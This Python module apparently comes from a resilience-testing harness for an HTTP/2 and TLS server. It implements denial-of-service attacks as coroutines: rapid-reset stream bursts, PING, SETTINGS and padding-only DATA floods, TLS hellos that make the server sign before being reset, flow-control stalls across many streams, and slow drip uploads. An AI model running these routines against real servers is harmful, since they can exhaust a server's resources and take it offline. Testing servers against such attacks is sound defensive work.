"""Attacks as coroutines: the measurement strangers runs each of them once, soak some of them together for a long time."""
import asyncio
import ssl
import time

from . import frames
from .client import CONTEXTS, NAME, Client, Http2

# Requests of a client that resets them, and the seconds until it does.
BURST, PAUSE = 16, 0.004
# The flag of DATA with padding.
PADDED = 8
# Streams that a client asks on who reads nothing, if the server allows so many.
STREAMS = 128


def get(path, *lines):
    return "\r\n".join([f"GET {path} HTTP/1.1", f"Host: {NAME}", *lines, "", ""]).encode()


def post(path, length):
    return f"POST {path} HTTP/1.1\r\nHost: {NAME}\r\nContent-Length: {length}\r\n\r\n".encode()


async def paced_resets(port, path, seconds, pause=PAUSE, rounds=1 << 30):
    """Asks on 16 streams, waits until the server has accepted them, resets them, and again, until it is cut, the time is over or
    after `rounds`. Returns the streams opened, the seconds, and how the server ended it, or None."""
    client = await Http2.start(port, open_window=1 << 30)
    began, opened = time.monotonic(), 0
    try:
        while time.monotonic() - began < seconds and opened < rounds * BURST and not client.ended():
            streams = range(1 + 2 * opened, 1 + 2 * (opened + BURST), 2)
            await client.send(b"".join(frames.head(stream, NAME, path) for stream in streams))
            await asyncio.sleep(pause)
            await client.send(b"".join(frames.reset(stream) for stream in streams))
            opened += BURST
            await client.read(0)
        if not client.ended():
            await client.read(0.2)
        return opened, time.monotonic() - began, client.ended()
    finally:
        client.close()


async def resets_again_and_again(port, path, seconds):
    """The same by a client that connects anew whenever it was cut. Returns streams and connections."""
    until, opened, connections = time.monotonic() + seconds, 0, 0
    while time.monotonic() < until:
        try:
            streams, _, _ = await paced_resets(port, path, until - time.monotonic())
            opened, connections = opened + streams, connections + 1
        except (OSError, asyncio.TimeoutError):
            await asyncio.sleep(0.01)
    return opened, connections


async def flood(port, piece, seconds, pause=PAUSE, begin=b""):
    """Sends 100 times this frame after `begin`, again and again. Returns the frames, the seconds, and how the server ended it."""
    client = await Http2.start(port)
    await client.send(begin)
    began, sent = time.monotonic(), 0
    try:
        while time.monotonic() - began < seconds and not client.ended():
            await client.send(piece * 100)
            sent += 100
            await asyncio.sleep(pause)
            await client.read(0)
        return sent, time.monotonic() - began, client.ended()
    finally:
        client.close()


PING_FLOOD = frames.frame(frames.PING, payload=bytes(8))
# Frames without effect by name, and the frames before them: an upload whose data consists of padding only.
FLOODS = {
    "PING": (PING_FLOOD, b""),
    "SETTINGS": (frames.frame(frames.SETTINGS), b""),
    "SETTINGS ACK": (frames.frame(frames.SETTINGS, frames.ACK), b""),
    "padding": (frames.frame(frames.DATA, PADDED, 1, bytes([64]) + bytes(64)),
                frames.head(1, NAME, "/hang/padding", "POST", end=False)),
}


def hello(tls=CONTEXTS["h2"]):
    """A hello that any number of connections can begin with."""
    outgoing = ssl.MemoryBIO()
    try:
        tls.wrap_bio(ssl.MemoryBIO(), outgoing, server_hostname=NAME).do_handshake()
    except ssl.SSLWantReadError:
        pass
    return outgoing.read()


async def bare_hello(port, hello):
    """Sends a hello, waits for the answer that costs the server a signature, and resets the connection."""
    client = Client(port)
    await client.open()
    try:
        await asyncio.get_running_loop().sock_sendall(client.socket, hello)
        await client.receive_raw(5)
    finally:
        client.reset()


async def asked(port, path):
    """A client that has asked over HTTP/1.1."""
    client = await Client.connect(port)
    await client.send(get(path))
    return client


async def ask_and_vanish(port, path):
    """Asks, and is gone with RST as soon as the request can have reached the upstream."""
    client = await asked(port, path)
    await asyncio.sleep(0.05)
    client.reset()


async def asking_on_all_streams(port, path, window, fields=()):
    """Asks on as many streams as the server allows, of each of which the client permits `window` bytes. The kernel takes a few
    KiB."""
    client = await Http2.start(port, receive_buffer=4096, window=window, open_window=0x70000000)
    client.streams = min(STREAMS, client.settings.get(frames.MAX_STREAMS, STREAMS))
    await client.send(b"".join(frames.head(2 * number + 1, NAME, f"{path}/{number}", headers=fields)
                               for number in range(client.streams)))
    return client


async def open_windows(clients, seconds, bytes_each=100, pause=0.5):
    """Opens the window of every stream by a few bytes, again and again."""
    until = time.monotonic() + seconds
    while time.monotonic() < until:
        for client in clients:
            await client.send(b"".join(frames.window(bytes_each, 2 * number + 1) for number in range(client.streams)))
            await client.read(0)
        await asyncio.sleep(pause)


class Streams:
    """What becomes of the streams of one connection over HTTP/2 while its client goes on reading: interim responses, statuses,
    bytes and ends by stream. A request over HTTP/1.1 is stream 1."""

    def __init__(self, client):
        self.client, self.began, self.text = client, time.monotonic(), b""
        self.interim, self.statuses, self.bytes, self.ends, self.cut = 0, {}, {}, {}, None

    @classmethod
    async def ask(cls, port, path, protocol="h2", length=None, first=b""):
        """A request on stream 1, with a body of this length that begins with `first`."""
        client = await (Http2.start(port, open_window=1 << 30) if protocol == "h2" else Client.connect(port))
        streams = cls(client)
        if protocol == "h2":
            fields = [("content-length", str(length))] if length else []
            await client.send(frames.head(1, NAME, path, "POST" if length else "GET", fields, end=not length))
        else:
            await client.send(post(path, length) + first if length else get(path))
        return streams

    async def send(self, data):
        """A part of the body of stream 1."""
        await self.client.send(frames.frame(frames.DATA, 0, 1, data) if isinstance(self.client, Http2) else data)

    def seconds(self):
        return time.monotonic() - self.began

    def over(self):
        """How stream 1 ended, or None."""
        return self.ends.get(1, self.cut or (None,))[0]

    async def watch(self, seconds, until=lambda streams: False):
        while self.seconds() < seconds and not self.cut and not until(self):
            wait = max(0, min(0.25, seconds - self.seconds()))
            if isinstance(self.client, Http2):
                for frame in await self.client.read(wait):
                    self.take(*frame)
            else:
                self.parse(await self.client.receive(wait))
            if self.client.over:
                self.cut = self.cut or (f"connection {self.client.over}", self.seconds())

    def take(self, kind, flags, stream, payload):
        status = frames.status(payload) if kind == frames.HEADERS else None
        if status and status < 200:
            self.interim += 1
        elif kind == frames.HEADERS:
            self.statuses.setdefault(stream, status)
        if kind == frames.DATA:
            self.bytes[stream] = self.bytes.get(stream, 0) + len(payload)
        if kind == frames.RST_STREAM:
            self.ends.setdefault(stream, (f"reset {frames.error(payload)}", self.seconds()))
        elif kind in (frames.HEADERS, frames.DATA) and flags & frames.END_STREAM:
            self.ends.setdefault(stream, ("complete", self.seconds()))
        elif kind == frames.GOAWAY and frames.error(payload) != "NO_ERROR":
            self.cut = (f"GOAWAY {frames.error(payload)}", self.seconds())

    def parse(self, data):
        """Of a response over HTTP/1.1 the heads are enough."""
        *heads, self.text = (self.text + data).split(b"\r\n\r\n")
        for status in (int(head.split(b" ", 2)[1]) for head in heads if head.startswith(b"HTTP/")):
            if status < 200:
                self.interim += 1
            else:
                self.statuses.setdefault(1, status)
                self.ends.setdefault(1, ("complete", self.seconds()))


async def stalled_beside(port, stalled, waiting, seconds):
    """Stream 1 gets an answer for which it opens no window (`stalled` = "/big") or whose client and upstream fall silent in
    both directions ("/watch"); stream 3 waits for an answer that takes longer than streams may stand still."""
    client = await Http2.start(port, open_window=1 << 30)
    is_download = stalled.startswith("/big")
    begin = frames.head(1, NAME, stalled, method="GET" if is_download else "POST", end=is_download)
    await client.send(begin + frames.head(3, NAME, waiting))
    streams = Streams(client)
    await streams.watch(seconds, lambda streams: 3 in streams.ends)
    client.close()
    return streams


async def drip(port, path, protocol, seconds, first=b"", length=100_000, piece=b"x", pause=0.3):
    """An upload that begins with `first`, and of which a piece comes every 0.3 s. Its end."""
    streams = await Streams.ask(port, path, protocol, length, first)
    while streams.seconds() < seconds and not streams.over():
        await streams.send(piece)
        await streams.watch(streams.seconds() + pause, Streams.over)
    streams.client.close()
    return streams


async def watched(port, path, protocol, seconds):
    """A request until its end."""
    streams = await Streams.ask(port, path, protocol)
    await streams.watch(seconds, Streams.over)
    streams.client.close()
    return streams
